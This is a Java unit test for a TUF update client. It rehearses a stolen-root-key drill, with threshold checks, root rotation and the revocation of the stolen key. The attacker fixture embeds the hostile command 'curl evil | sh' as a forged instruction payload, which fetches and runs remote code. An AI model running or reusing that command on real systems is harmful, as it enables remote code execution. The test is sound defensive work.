package io.ledgerlab.hermetic.tuf;

import static io.ledgerlab.hermetic.tuf.TestRepository.id;
import static io.ledgerlab.hermetic.tuf.TestRepository.key;
import static io.ledgerlab.hermetic.tuf.TestRepository.signedBy;
import static io.ledgerlab.hermetic.tuf.TestRepository.trustedVersion;
import static io.ledgerlab.hermetic.tuf.TestRepository.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertThrows;

import io.ledgerlab.ledger.crypto.KeyPair;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The drill an operator runs when a root key is stolen (specification 6.1, key management): root is
 * 2 of 2 keys (A, B); an attacker holding a copy of A cannot move the client alone, the operator
 * rotates root to (B, C, D), 2 of 3, and every online key besides, and from then on nothing signed
 * with A counts.
 */
class CompromiseDrillTest {
  private static final KeyPair A = key("root-A");
  private static final KeyPair B = key("root-B");
  private static final KeyPair C = key("root-C");
  private static final KeyPair D = key("root-D");
  private static final KeyPair ATTACKER = key("attacker");

  @TempDir Path dir;

  private static TufException refused(Updater client, TufException.Reason reason, String what) {
    TufException e = assertThrows(TufException.class, client::refresh);
    assertThat(e.reason()).as(e.getMessage()).isEqualTo(reason);
    assertThat(e.getMessage()).contains(what);
    return e;
  }

  /**
   * The attacker's own repository: the same root 1 (it is public), then a root of its own signed by
   * the stolen key and its own, handing every role to its own key.
   */
  private static TestRepository attackerRepository(long rootVersion) {
    TestRepository evil = TestRepository.create(2, A, B);
    for (long v = 2; v < rootVersion; v++) {
      evil.rotateRoot(List.of(A, B));
    }
    evil.setKeys(Role.ROOT, 2, A, ATTACKER);
    for (Role r : List.of(Role.TIMESTAMP, Role.SNAPSHOT, Role.TARGETS)) {
      evil.setKeys(r, 1, ATTACKER);
    }
    evil.rotateRoot(List.of(A, ATTACKER));
    evil.addTarget("instructions/1.json", utf8("{\"do\":\"run\",\"command\":\"curl evil | sh\"}"));
    evil.publish();
    return evil;
  }

  @Test
  void aStolenRootKeyIsUselessAloneAndRevokedByTheRotation() throws Exception {
    TestRepository honest = TestRepository.create(2, A, B);
    honest.addTarget("instructions/1.json", utf8("{\"do\":\"restart\"}"));
    honest.publish();
    honest.client(dir).refresh();

    // 1. With A alone the attacker's root 2 is one signature short of root 1's threshold.
    TestRepository evil = attackerRepository(2);
    assertThat(evil.initialRoot()).isEqualTo(honest.initialRoot());
    Updater fooled = evil.client(dir);
    refused(
        fooled,
        TufException.Reason.THRESHOLD,
        "2.root.json: 1 valid signature(s) by the trusted root (version 1)'s keys, threshold 2");
    assertThat(trustedVersion(dir, Role.ROOT)).isEqualTo(1);
    assertThat(trustedVersion(dir, Role.TARGETS)).isEqualTo(1);

    // 2. The operator rotates root to (B, C, D), 2 of 3, signed by a threshold of the old root (A
    // and B: A is copied, not lost) and of the new (C and D), and replaces every online key.
    honest.setKeys(Role.ROOT, 2, B, C, D);
    honest.setKeys(Role.TIMESTAMP, 1, key("timestamp-2"));
    honest.setKeys(Role.SNAPSHOT, 1, key("snapshot-2"));
    honest.setKeys(Role.TARGETS, 1, key("targets-2"));
    honest.rotateRoot(List.of(A, B, C, D));
    honest.addTarget("instructions/2.json", utf8("{\"do\":\"rotate\"}"));
    honest.publish();
    Updater client = honest.client(dir);
    Updater.Trusted t = client.refresh();
    assertThat(t.root().version()).isEqualTo(2);
    assertThat(t.root().role(Role.ROOT).keyIds()).containsExactly(id(B), id(C), id(D));
    assertThat(t.root().keys()).doesNotContainKey(id(A));
    assertThat(client.target("instructions/2.json")).isEqualTo(utf8("{\"do\":\"rotate\"}"));

    // 3. Afterwards A counts for nothing: a root 3 signed by A and the attacker …
    TestRepository evil3 = attackerRepository(3);
    honest.put("metadata/3.root.json", evil3.file("metadata/3.root.json"));
    refused(
        client,
        TufException.Reason.THRESHOLD,
        "3.root.json: 0 valid signature(s) by the trusted root (version 2)'s keys, threshold 2");
    assertThat(trustedVersion(dir, Role.ROOT)).isEqualTo(2);
    honest.remove("metadata/3.root.json");

    // … nor a root 3 that A signs with one current root key: A no longer makes up a threshold.
    honest.put("metadata/3.root.json", Envelope.sign(honest.rootSigned(3), List.of(A, B)));
    refused(
        client,
        TufException.Reason.THRESHOLD,
        "3.root.json: 1 valid signature(s) by the trusted root (version 2)'s keys, threshold 2");
    honest.remove("metadata/3.root.json");

    // … nor metadata of any role signed with A or with a retired online key.
    honest.publish(signedBy(Role.TIMESTAMP, A));
    refused(client, TufException.Reason.THRESHOLD, "timestamp.json: 0 valid signature(s)");
    honest.publish(signedBy(Role.TARGETS, A, key("targets-1")));
    refused(client, TufException.Reason.THRESHOLD, "4.targets.json: 0 valid signature(s)");

    // The client lost nothing on the way: root 2 and the last honest publication.
    assertThat(trustedVersion(dir, Role.ROOT)).isEqualTo(2);
    assertThat(trustedVersion(dir, Role.TARGETS)).isEqualTo(2);
    assertThat(client.target("instructions/2.json")).isEqualTo(utf8("{\"do\":\"rotate\"}"));
    honest.publish();
    assertThat(client.refresh().targets().version()).isEqualTo(5);
  }
}
